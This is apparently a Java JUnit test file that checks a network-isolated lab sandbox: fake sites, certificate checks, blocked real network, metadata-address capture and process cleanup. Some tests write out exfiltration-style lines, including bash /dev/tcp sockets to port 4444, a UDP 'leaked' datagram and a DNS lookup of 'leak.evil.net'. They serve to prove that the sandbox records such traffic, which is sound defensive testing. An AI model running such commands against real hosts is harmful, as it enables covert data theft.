package dev.botbottle.testkit.lab;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class LabTest {
  private static final Map<Lab.Kind, Lab> LABS = new EnumMap<>(Lab.Kind.class);

  /** One lab of each kind for all tests; each test uses names or addresses of its own. */
  private static Lab lab(Lab.Kind kind) {
    Lab open = LABS.get(kind);
    if (open == null) {
      Optional<String> why = Lab.unavailable(kind);
      assumeTrue(why.isEmpty(), () -> why.orElse(""));
      open =
          Lab.open(
              kind,
              Site.echo("docs.example.com"),
              Site.echo("post.example.com"),
              Site.echo("late.example.com").with(Site.Certificate.EXPIRED),
              Site.echo("other.example.com").with(Site.Certificate.WRONG_NAME),
              Site.echo("stranger.example.com").with(Site.Certificate.UNTRUSTED),
              Site.echo("rebind.example.com", "127.0.0.1"),
              Site.echo("java.example.com"));
      LABS.put(kind, open);
    }
    return open;
  }

  @AfterAll
  static void close() {
    for (Lab lab : LABS.values()) {
      lab.close();
    }
    LABS.clear();
  }

  @ParameterizedTest
  @EnumSource
  void namesOfSitesResolveAndAreAnsweredOverVerifiedTls(Lab.Kind kind) {
    Lab lab = lab(kind);
    LabProcess.Result result =
        lab.run(Account.ROOT, "curl -sS -H 'X-Mark: 1' 'https://docs.example.com/a?b=c'");
    assertThat(result.err()).isEmpty();
    assertThat(result.out()).startsWith("GET /a?b=c\n").contains("X-Mark: 1");
    assertThat(lab.lookups()).contains("docs.example.com");
    assertThat(lab.requests("docs.example.com"))
        .anySatisfy(request -> assertThat(request.header("x-mark")).contains("1"));
    assertThat(lab.seenAt("docs.example.com"))
        .anySatisfy(seen ->
            assertThat(seen)
                .isInstanceOfSatisfying(
                    Seen.Handshake.class,
                    hello -> assertThat(hello.serverName()).isEqualTo("docs.example.com")));
  }

  @ParameterizedTest
  @EnumSource
  void aNameWithoutASiteDoesNotExistAndTheQuestionIsSeen(Lab.Kind kind) {
    Lab lab = lab(kind);
    assertThat(lab.run(Account.USER, "curl -sS http://nowhere.example.net/").exit()).isEqualTo(6);
    assertThat(lab.lookups()).contains("nowhere.example.net");
  }

  @ParameterizedTest
  @EnumSource
  void wrongCertificatesAreNotTrusted(Lab.Kind kind) {
    Lab lab = lab(kind);
    for (String name : List.of("late", "other", "stranger")) {
      String host = name + ".example.com";
      LabProcess.Result result = lab.run(Account.ROOT, "curl -sS https://" + host + "/");
      assertThat(result.exit()).as("%s: %s", host, result.err()).isEqualTo(60);
      assertThat(lab.seenAt(host)).hasAtLeastOneElementOfType(Seen.Connection.class);
      assertThat(lab.requests(host)).isEmpty();
    }
  }

  @ParameterizedTest
  @EnumSource
  void everyAddressOfTheWorldLeadsToTheLab(Lab.Kind kind) {
    Lab lab = lab(kind);
    for (String address :
        List.of(
            "203.0.113.200",
            "198.51.100.1",
            "1.2.3.4",
            "10.1.2.3",
            Lab.LAN_IPV4,
            Lab.METADATA_IPV4,
            "2001:db8::77",
            "2606:4700::1111",
            "fd00:ec2::254")) {
      String literal = address.contains(":") ? "[" + address + "]" : address;
      LabProcess.Result result =
          lab.run(Account.USER, "curl -sS -g -m 5 http://" + literal + ":8080/mark");
      assertThat(result.out()).as("%s: %s", address, result.err()).startsWith("GET /mark\n");
      assertThat(lab.requests(address)).as(address).hasSize(1);
    }
  }

  @ParameterizedTest
  @EnumSource
  void theRealNetworkIsNotThere(Lab.Kind kind) throws IOException {
    Lab lab = lab(kind);
    try (ServerSocket outside = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
      LabProcess.Result result =
          lab.run(Account.ROOT, "curl -sS -m 5 http://127.0.0.1:" + outside.getLocalPort() + "/");
      assertThat(result.exit()).as(result.err()).isEqualTo(7);
    }
    assertThat(lab.run(Account.ROOT, "ls /sys/class/net >/dev/null; ip -o link").out().lines())
        .hasSize(2)
        .anyMatch(line -> line.contains(" lo:"))
        .anyMatch(line -> line.contains(" lan0@"));
    assertThat(lab.run(Account.ROOT, "find /run -type s").out()).isEmpty();
  }

  @ParameterizedTest
  @EnumSource
  void bodiesAreSeenWhole(Lab.Kind kind) {
    Lab lab = lab(kind);
    lab.run(
        Account.ROOT,
        "head -c 200000 /dev/zero | tr '\\0' x | curl -sS -T - -X POST https://post.example.com/up");
    assertThat(lab.requests("post.example.com"))
        .anySatisfy(request -> {
          assertThat(request.path()).isEqualTo("/up");
          assertThat(request.complete()).isTrue();
          assertThat(request.body()).hasSize(200_000);
        });
  }

  @ParameterizedTest
  @EnumSource
  void anUploadThatIsBrokenOffIsSeenAsThat(Lab.Kind kind) {
    Lab lab = lab(kind);
    LabProcess.Result result =
        bash(
            lab,
            "exec 3<>/dev/tcp/203.0.113.201/80;"
                + " printf 'POST /part HTTP/1.1\\r\\nContent-Length: 100\\r\\n\\r\\nabc' >&3;"
                + " exec 3>&-");
    assertThat(result.exit()).as(result.err()).isZero();
    Request request = eventually(lab, "203.0.113.201");
    assertThat(request.complete()).isFalse();
    assertThat(request.text()).isEqualTo("abc");
  }

  /** What was sent last may still be read when the sender has ended: asked for some seconds. */
  private static Request eventually(Lab lab, String address) {
    long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
    while (System.nanoTime() < deadline) {
      List<Request> requests = lab.requests(address);
      if (!requests.isEmpty()) {
        return requests.getFirst();
      }
    }
    throw new AssertionError("no request at " + address);
  }

  @ParameterizedTest
  @EnumSource
  void datagramsAndQueriesToForeignServersAreSeen(Lab.Kind kind) {
    Lab lab = lab(kind);
    bash(lab, "printf leaked > /dev/udp/192.0.2.77/4444");
    bash(
        lab,
        "printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x04evil"
            + "\\x03net\\x00\\x00\\x01\\x00\\x01' > /dev/udp/8.8.8.8/53");
    assertThat(lab.seen())
        .contains(new Seen.Datagram(Seen.Side.INTERNET, "*", 4444, "leaked"))
        .contains(new Seen.Lookup(Seen.Side.INTERNET, "8.8.8.8", 53, "leak.evil.net", 1));
  }

  @ParameterizedTest
  @EnumSource
  void bytesThatAreNoHttpAreSeen(Lab.Kind kind) {
    Lab lab = lab(kind);
    bash(lab, "exec 3<>/dev/tcp/203.0.113.202/4444; echo hello there >&3; cat <&3");
    assertThat(lab.seenAt("203.0.113.202"))
        .contains(new Seen.Bytes(Seen.Side.INTERNET, "203.0.113.202", 4444, "hello there"));
  }

  @ParameterizedTest
  @EnumSource
  void theHostsOwnServiceIsReachedOnTheHost(Lab.Kind kind) {
    Lab lab = lab(kind);
    for (String address : List.of("127.0.0.1", Lab.HOST_IPV4, "::1", Lab.HOST_IPV6)) {
      String literal = address.contains(":") ? "[" + address + "]" : address;
      String url = "http://" + literal + ":" + Lab.HOST_SERVICE_PORT + "/";
      LabProcess.Result result = lab.run(Account.USER, "curl -sS -g -m 5 " + url);
      assertThat(result.exit()).as(result.err()).isZero();
      assertThat(lab.seenAt(address))
          .hasAtLeastOneElementOfType(Seen.HttpRequest.class)
          .allSatisfy(seen -> assertThat(seen.side()).isEqualTo(Seen.Side.HOST));
    }
  }

  @ParameterizedTest
  @EnumSource
  void theHostsUnixSocketGreetsEveryAccount(Lab.Kind kind) {
    Lab lab = lab(kind);
    String path = lab.hostSocket().toString();
    assertThat(lab.seenAt(path)).isEmpty();
    LabProcess.Result result =
        lab.run(Account.USER, "curl -sS --http0.9 --unix-socket " + path + " http://host/");
    assertThat(result.out()).as(result.err()).isEqualTo("lab host\n");
    assertThat(lab.seenAt(path)).containsExactly(new Seen.Connection(Seen.Side.HOST, path, 0));
  }

  @ParameterizedTest
  @EnumSource
  void aSiteMayHaveAnyAddress(Lab.Kind kind) {
    assertThat(lab(kind).run(Account.ROOT, "getent ahostsv4 rebind.example.com").out())
        .startsWith("127.0.0.1");
  }

  @ParameterizedTest
  @EnumSource
  void accountsAreWhoTheySayAndAUserHasNoPower(Lab.Kind kind) {
    Lab lab = lab(kind);
    assertThat(lab.run(Account.ROOT, "id -u").out()).isEqualTo("0\n");
    assertThat(lab.run(Account.USER, "id -u; id -G").out()).isEqualTo("1000\n1000\n");
    assertThat(lab.run(Account.ROOT, "ip link set lan0 mtu 1400").exit()).isZero();
    assertThat(lab.run(Account.USER, "ip link set lan0 mtu 1300").exit()).isNotZero();
    Path home = lab.home(Account.USER);
    LabProcess.Result result =
        lab.run(Account.USER, "touch " + home + "/x && stat -c %u " + home + "/x");
    assertThat(result.out()).as(result.err()).isEqualTo("1000\n");
  }

  @ParameterizedTest
  @EnumSource
  void anOrdinaryUserCanMakeNamespacesOfItsOwn(Lab.Kind kind) {
    assertThat(lab(kind).run(Account.USER, "unshare -Urn true").exit()).isZero();
  }

  @ParameterizedTest
  @EnumSource
  void javaProgramsTrustTheRootWhenAsked(Lab.Kind kind) throws IOException {
    Lab lab = lab(kind);
    Path javaHome = Path.of(System.getProperty("java.home"));
    Path program = lab.directory().resolve("Get.java");
    Files.writeString(
        program,
        """
        void main() throws Exception {
          var uri = java.net.URI.create("https://java.example.com/j").toURL();
          IO.println(new String(uri.openStream().readAllBytes()));
        }
        """);
    String command = javaHome.resolve("bin/java") + " " + program;
    assertThat(lab.run(Account.ROOT, command).exit()).isNotZero();
    lab.trustJava(javaHome);
    LabProcess.Result result = lab.run(Account.ROOT, command);
    assertThat(result.out()).as(result.err()).contains("GET /j");
  }

  @ParameterizedTest
  @EnumSource
  void aProcessGetsSignalsAndItsExitIsSeen(Lab.Kind kind) {
    Lab lab = lab(kind);
    try (LabProcess process =
        lab.start(
            List.of(
                "sh",
                "-c",
                "trap 'echo got; exit 7' TERM; sleep 60 >/dev/null 2>&1 & echo up; wait"),
            Map.of(),
            lab.directory(),
            Account.USER)) {
      long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
      while (!process.out().equals("up\n") && System.nanoTime() < deadline) {
        Thread.onSpinWait();
      }
      process.signal("TERM");
      assertThat(process.await(Duration.ofSeconds(10)))
          .isEqualTo(new LabProcess.Result(7, "up\ngot\n", ""));
    }
  }

  @ParameterizedTest
  @EnumSource
  void aPrivateTmpHidesTheRealOneAndKeepsTheLabsFolder(Lab.Kind kind) throws IOException {
    Optional<String> why = Lab.unavailable(kind);
    assumeTrue(why.isEmpty(), () -> why.orElse(""));
    Path outside = Files.createTempFile("outside", "");
    try (Lab lab = Lab.open(kind)) {
      Files.writeString(lab.directory().resolve("kept"), "kept");
      lab.privateTmp();
      String see = "cat " + lab.directory() + "/kept; ls -A " + outside + "; touch /tmp/x";
      LabProcess.Result result = lab.run(Account.USER, see);
      assertThat(result.out()).as(result.err()).isEqualTo("kept");
      assertThat(result.exit()).isZero();
    } finally {
      Files.delete(outside);
    }
  }

  @ParameterizedTest
  @EnumSource
  void closingEndsEveryProcessAndRemovesTheFiles(Lab.Kind kind) {
    Optional<String> why = Lab.unavailable(kind);
    assumeTrue(why.isEmpty(), () -> why.orElse(""));
    Path directory;
    ProcessHandle left;
    try (Lab lab = Lab.open(kind)) {
      directory = lab.directory();
      String mark = "31" + (System.nanoTime() % 100_000);
      lab.run(Account.ROOT, "setsid sleep " + mark + " >/dev/null 2>&1 </dev/null & sleep 0.1");
      left =
          ProcessHandle.allProcesses()
              .filter(p -> p.info().arguments().map(a -> List.of(a).contains(mark)).orElse(false))
              .filter(p -> p.info().command().orElse("").endsWith("sleep"))
              .findFirst()
              .orElseThrow();
      assertThat(left.isAlive()).isTrue();
    }
    assertThat(left.isAlive()).isFalse();
    assertThat(directory).doesNotExist();
  }

  private static LabProcess.Result bash(Lab lab, String script) {
    try (LabProcess process =
        lab.start(List.of("bash", "-c", script), Map.of(), lab.directory(), Account.USER)) {
      return process.await(Duration.ofSeconds(20));
    }
  }
}
